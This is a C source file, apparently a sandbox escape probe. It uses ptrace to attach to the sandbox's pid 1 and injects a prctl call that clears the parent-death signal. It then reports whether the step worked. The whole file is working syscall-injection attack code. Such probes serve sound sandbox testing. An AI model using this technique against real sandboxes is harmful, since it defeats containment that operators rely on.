/* Attack: takes the parent-death signal away from the sandbox's pid 1, by making
 * it execute prctl(PR_SET_PDEATHSIG, 0). Prints "freed", or why not. */
#include <elf.h>
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>

static int fail(const char *what)
{
	printf("cannot %s: %s\n", what, strerror(errno));
	return 1;
}

int main(void)
{
#ifdef __x86_64__
	struct user_regs_struct saved, regs;
	int status;

	if (ptrace(PTRACE_ATTACH, 1, 0, 0))
		return fail("attach");
	waitpid(1, &status, 0);
	ptrace(PTRACE_GETREGS, 1, 0, &saved);
	/* It sleeps in wait4: the two bytes before rip are the syscall instruction. */
	regs = saved;
	regs.rip -= 2;
	regs.orig_rax = -1;
	regs.rax = SYS_prctl;
	regs.rdi = PR_SET_PDEATHSIG;
	regs.rsi = 0;
	if (ptrace(PTRACE_SETREGS, 1, 0, &regs) || ptrace(PTRACE_SINGLESTEP, 1, 0, 0))
		return fail("inject");
	waitpid(1, &status, 0);
	ptrace(PTRACE_GETREGS, 1, 0, &regs);
	if (regs.rax != 0)
		return printf("prctl gave %lld\n", (long long)regs.rax), 1;
	saved.rip -= 2; /* wait4 again */
	saved.rax = saved.orig_rax;
	saved.orig_rax = -1;
	ptrace(PTRACE_SETREGS, 1, 0, &saved);
	if (ptrace(PTRACE_DETACH, 1, 0, 0))
		return fail("detach");
	puts("freed");
	return 0;
#else
	puts("not written for this machine");
	return 2;
#endif
}
